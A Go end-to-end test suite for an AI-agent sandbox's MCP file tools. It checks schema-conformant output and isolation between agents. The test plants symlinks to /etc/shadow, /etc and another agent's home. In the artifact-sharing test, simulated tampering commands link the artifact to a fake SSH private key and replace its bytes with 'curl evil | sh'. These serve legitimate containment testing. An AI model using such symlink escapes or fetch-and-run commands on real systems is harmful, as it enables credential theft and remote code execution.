//go:build linux

package e2e

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/jsonschema-go/jsonschema"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/osaurus/osaurus-sandbox/config"
	"github.com/osaurus/osaurus-sandbox/tools"
)

// structured calls tool over s and returns its structuredContent after
// validating it against the tool's outputSchema from tools/list.
func (s *session) structured(t *testing.T, schemas map[string]*jsonschema.Resolved, tool string, args any) map[string]any {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	res, err := s.cs.CallTool(ctx, &mcp.CallToolParams{Name: tool, Arguments: args})
	if err != nil {
		t.Fatalf("%s: %s: %v", s.name, tool, err)
	}
	b, _ := json.Marshal(res.StructuredContent)
	var sc map[string]any
	if err := json.Unmarshal(b, &sc); err != nil {
		t.Fatalf("%s: %s: structuredContent %s: %v", s.name, tool, b, err)
	}
	if err := schemas[tool].Validate(sc); err != nil {
		t.Fatalf("%s: %s: structuredContent %s does not match the outputSchema: %v", s.name, tool, b, err)
	}
	return sc
}

func outputSchemas(t *testing.T, s *session) map[string]*jsonschema.Resolved {
	t.Helper()
	res, err := s.cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]*jsonschema.Resolved{}
	for _, tl := range res.Tools {
		if tl.Title == "" {
			t.Errorf("%s has no title", tl.Name)
		}
		b, _ := json.Marshal(tl.OutputSchema)
		var sch jsonschema.Schema
		if err := json.Unmarshal(b, &sch); err != nil {
			t.Fatalf("%s: outputSchema %s: %v", tl.Name, b, err)
		}
		if out[tl.Name], err = sch.Resolve(nil); err != nil {
			t.Fatalf("%s: outputSchema: %v", tl.Name, err)
		}
	}
	return out
}

// TestFileToolsOverMCP: sandbox_file_info, sandbox_read_multiple_files
// and sandbox_directory_tree on the real guest, their structuredContent
// checked against their outputSchema; symlinks the agent plants out of
// its home are described, never followed, and other agents' homes are
// refused.
func TestFileToolsOverMCP(t *testing.T) {
	te := newToolsEnvCAs(t, false)
	te.addAgent(t, "Alice", autonomous(100, false))
	te.addAgent(t, "Bob", autonomous(100, false))
	s := te.http(t, "alice")
	bob := te.http(t, "bob")
	bob.ok(t, "sandbox_write_file", map[string]any{"path": "private.txt", "content": "bob's 4711\n"})
	schemas := outputSchemas(t, s)
	home := "/workspace/agents/alice"
	setup := "mkdir -p d/sub && printf hello > d/a.txt && chmod 640 d/a.txt && printf 'package main\\n' > d/sub/main.go && " +
		"ln -s /etc/shadow d/shadow && ln -s /etc d/etc && ln -s /workspace/agents/bob d/bob"
	if r := s.ok(t, "sandbox_exec", map[string]any{"command": setup}); num(r["exit_code"]) != 0 {
		t.Fatalf("setup: %v", r)
	}
	js := func(v any) string { b, _ := json.Marshal(v); return string(b) }

	r := s.structured(t, schemas, "sandbox_file_info", map[string]any{"path": "d/a.txt"})
	res := r["result"].(map[string]any)
	if r["ok"] != true || res["type"] != "file" || res["size"] != 5.0 || res["mode"] != "0640" || res["path"] != home+"/d/a.txt" ||
		!regexp.MustCompile(`^20\d\d-\d\d-\d\dT`).MatchString(res["modified"].(string)) {
		t.Fatalf("file_info: %s", js(r))
	}
	r = s.structured(t, schemas, "sandbox_file_info", map[string]any{"path": "d/shadow"})
	if res := r["result"].(map[string]any); res["type"] != "symlink" || res["target"] != "/etc/shadow" {
		t.Fatalf("file_info of a planted symlink: %s", js(r))
	}
	if r = s.structured(t, schemas, "sandbox_file_info", map[string]any{"path": "/workspace/agents/bob/private.txt"}); r["ok"] != false || r["field"] != "path" {
		t.Fatalf("file_info in bob's home: %s", js(r))
	}

	r = s.structured(t, schemas, "sandbox_read_multiple_files", map[string]any{"paths": []string{"d/a.txt", "d/shadow", "d/bob/private.txt", "d/etc/passwd", "d/missing"}})
	files := r["result"].(map[string]any)["files"].([]any)
	if len(files) != 5 || js(files[0]) != `{"content":"hello","ok":true,"path":"`+home+`/d/a.txt","size":5}` {
		t.Fatalf("read_multiple_files: %s", js(r))
	}
	for _, f := range files[1:] {
		if f.(map[string]any)["ok"] != false {
			t.Errorf("read through a planted symlink: %s", js(f))
		}
	}
	// /etc/passwd and /etc/shadow lines start "root:x:", "root:*:" or
	// "root:$"; the refusals' own text says "escapes its root: d/...".
	if out := js(r); regexp.MustCompile(`root:[x*!$]`).MatchString(out) || strings.Contains(out, "4711") {
		t.Fatalf("read_multiple_files leaked another user's or root's file: %s", out)
	}
	t.Logf("read_multiple_files through symlinks: %s", js(files[1:]))
	if r = s.structured(t, schemas, "sandbox_read_multiple_files", map[string]any{"paths": []string{"d/a.txt", "/workspace/agents/bob/private.txt"}}); r["ok"] != false || r["field"] != "paths" {
		t.Fatalf("read_multiple_files of bob's file: %s", js(r))
	}

	r = s.structured(t, schemas, "sandbox_directory_tree", map[string]any{"path": "d"})
	want := `{"children":[{"name":"a.txt","size":5,"type":"file"},{"name":"bob","target":"/workspace/agents/bob","type":"symlink"},` +
		`{"name":"etc","target":"/etc","type":"symlink"},{"name":"shadow","target":"/etc/shadow","type":"symlink"},` +
		`{"children":[{"name":"main.go","size":13,"type":"file"}],"name":"sub","type":"dir"}],"name":"d","type":"dir"}`
	if got := js(r["result"].(map[string]any)["tree"]); got != want {
		t.Fatalf("tree:\n got %s\nwant %s", got, want)
	}
	r = s.structured(t, schemas, "sandbox_directory_tree", map[string]any{"path": "d", "max_depth": 1, "max_entries": 2})
	if res := r["result"].(map[string]any); res["node_count"] != 2.0 || res["truncated"] != true {
		t.Fatalf("bounded tree: %s", js(r))
	}
	if r = s.structured(t, schemas, "sandbox_directory_tree", map[string]any{"path": "/workspace/agents/bob"}); r["ok"] != false || r["field"] != "path" {
		t.Fatalf("tree of bob's home: %s", js(r))
	}

	// An image comes back as image content with the file's bytes.
	png := "\x89PNG\r\n\x1a\n" + strings.Repeat("\x00", 20)
	s.ok(t, "sandbox_exec", map[string]any{"command": `python3 -c 'import sys; sys.stdout.buffer.write(b"\x89PNG\r\n\x1a\n" + bytes(20))' > pic.png`})
	res2, err := s.cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "sandbox_read_file", Arguments: map[string]any{"path": "pic.png"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res2.Content) != 2 {
		t.Fatalf("pic.png: %d content items: %v", len(res2.Content), res2.Content)
	}
	if img, ok := res2.Content[1].(*mcp.ImageContent); !ok || string(img.Data) != png || img.MIMEType != "image/png" {
		t.Fatalf("pic.png: %#v", res2.Content[1])
	}

	t.Run("share artifact", func(t *testing.T) { shareArtifact(t, s, schemas, te.out, config.Paths{Root: te.home}.Artifacts()) })
}

// shareArtifact: sandbox_share_artifact copies the agent's file to
// /output/alice/ with the same bytes on the host, keeps the host's checked
// copy in keep and sends a resource link to that copy, and refuses a
// planted symlink, a directory and another agent's file; /output itself
// stays closed to the agent. The agent then turns its artifact into a
// link to a host file (standing in for the user's SSH key) and into other
// bytes: what the link names is unchanged, and the host's open of the
// artifact refuses both.
func shareArtifact(t *testing.T, s *session, schemas map[string]*jsonschema.Resolved, out, keep string) {
	content := "artifact \x00 bytes\n" + strings.Repeat("z", 9<<20) // over one copy chunk
	s.ok(t, "sandbox_exec", map[string]any{"command": `python3 -c 'import sys; sys.stdout.buffer.write(b"artifact \x00 bytes\n" + b"z" * (9 << 20))' > report.bin`})
	res, err := s.cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "sandbox_share_artifact", Arguments: map[string]any{"path": "report.bin"}})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(res.StructuredContent)
	var sc map[string]any
	if err := json.Unmarshal(b, &sc); err != nil || schemas["sandbox_share_artifact"].Validate(sc) != nil || sc["ok"] != true {
		t.Fatalf("share: structuredContent %.400s (%v)", b, err)
	}
	r := sc["result"].(map[string]any)
	host := filepath.Join(keep, "alice", "report.bin")
	sum := sha256.Sum256([]byte(content))
	if r["path"] != "/output/alice/report.bin" || r["host_path"] != host || r["size"] != float64(len(content)) || r["sha256"] != hex.EncodeToString(sum[:]) {
		t.Fatalf("share: %v", r)
	}
	fi, err := os.Lstat(host)
	if err != nil || !fi.Mode().IsRegular() {
		t.Fatalf("host file %s: %v %v", host, fi, err)
	}
	got, err := os.ReadFile(host)
	if err != nil || string(got) != content {
		t.Fatalf("host file %s: %d bytes (%v), want the agent's %d", host, len(got), err, len(content))
	}
	if len(res.Content) != 2 {
		t.Fatalf("share: %d content items, want a resource link too", len(res.Content))
	}
	if l, ok := res.Content[1].(*mcp.ResourceLink); !ok || l.URI != "file://"+host || l.Name != "report.bin" || l.Size == nil || *l.Size != int64(len(content)) {
		t.Fatalf("resource link %#v", res.Content[1])
	}
	for _, p := range []string{"d/shadow", "d", "/workspace/agents/bob/private.txt", "d/bob/private.txt"} {
		if r := s.structured(t, schemas, "sandbox_share_artifact", map[string]any{"path": p}); r["ok"] != false {
			t.Errorf("share %s: %v", p, r)
		}
	}
	if _, err := os.Lstat(filepath.Join(out, "alice", "shadow")); err == nil {
		t.Error("a refused share left a file")
	}
	if r := s.ok(t, "sandbox_exec", map[string]any{"command": "echo x > /output/planted"}); num(r["exit_code"]) == 0 {
		t.Errorf("the agent writes /output directly: %v", r)
	}

	hexSum := hex.EncodeToString(sum[:])
	if f, err := tools.OpenArtifact(context.Background(), out, "alice", "report.bin", hexSum); err != nil {
		t.Fatalf("the host's open of the artifact as shared: %v", err)
	} else {
		f.Close()
	}
	key := filepath.Join(t.TempDir(), "id_ed25519")
	if err := os.WriteFile(key, []byte("-----BEGIN OPENSSH PRIVATE KEY-----\nuser's key\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, attack := range []struct{ name, command string }{
		{"a link to the user's key", "ln -sfn " + key + " /output/alice/report.bin.new && mv -f /output/alice/report.bin.new /output/alice/report.bin"},
		{"other bytes", "rm -f /output/alice/report.bin && echo 'curl evil | sh' > /output/alice/report.bin"},
	} {
		if r := s.ok(t, "sandbox_exec", map[string]any{"command": attack.command}); num(r["exit_code"]) != 0 {
			t.Fatalf("%s: %v", attack.name, r)
		}
		if f, err := tools.OpenArtifact(context.Background(), out, "alice", "report.bin", hexSum); !errors.Is(err, tools.ErrArtifactChanged) {
			if f != nil {
				f.Close()
			}
			t.Errorf("%s: the host's open of the artifact: %v, want ErrArtifactChanged", attack.name, err)
		}
		if got, err := os.ReadFile(host); err != nil || string(got) != content {
			t.Errorf("%s: the linked host file %s now holds %.40q (%v), want what was shared", attack.name, host, got, err)
		}
	}
}
